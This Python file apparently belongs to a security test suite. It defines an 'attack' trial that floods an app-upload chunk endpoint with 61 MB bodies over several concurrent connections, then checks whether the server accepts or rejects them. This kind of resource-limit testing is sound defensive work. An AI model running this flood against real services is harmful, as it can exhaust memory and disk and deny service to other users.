"""What an administrator of one customer can fill: memory by chunks, the disk by uploads (line 14)."""

import base64
import http.client
import ssl
import threading
import time

from customers import CustomerAdministrator
from trial import attack
from wire import Connection

PIECE = 61_000_000


class Sending:
    """A body that is sent again and again in pieces, so that the attacker has it in memory once."""

    def __init__(self, parts):
        self.parts = parts

    def __iter__(self):
        for part in self.parts:
            for start in range(0, len(part), 1 << 18):
                yield part[start:start + (1 << 18)]

    def __len__(self):
        return sum(len(part) for part in self.parts)


@attack("chunks", [14], "Chunks of apps of 61 MB on 8 connections at once", rise=200)
def chunks(trial):
    administrator, statuses = CustomerAdministrator(trial, "north"), {}
    count = 3 if trial.setup.is_short else 8
    text = base64.b64encode(bytes(PIECE * 3 // 4))
    end = time.monotonic() + trial.seconds + 8

    def send(_):
        connection = Connection(administrator.origin, timeout=max(5, end - time.monotonic()))
        body = Sending([b'{"TransactionId":"","ChunkSequenceNumber":1,"ChunkData":"', text, b'"}'])
        try:
            headers = {**administrator.headers, "Content-Type": "application/json", "Content-Length": str(len(body))}
            status = connection.ask("POST", "/api/mam/apps/internal/uploadchunk", headers, iter(body)).status
        except (OSError, http.client.HTTPException, ssl.SSLError) as problem:
            status = type(problem).__name__
        statuses[status] = statuses.get(status, 0) + 1
        connection.close()

    threads = [threading.Thread(target=send, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.1, end + 5 - time.monotonic()))
    trial.did(f"{count} chunks of {PIECE // 1_000_000} MB; answers {statuses}")
    trial.check("chunks are taken or refused", statuses.get(200, 0) + statuses.get(413, 0) + statuses.get(409, 0)
                + statuses.get(429, 0) > 0, statuses)
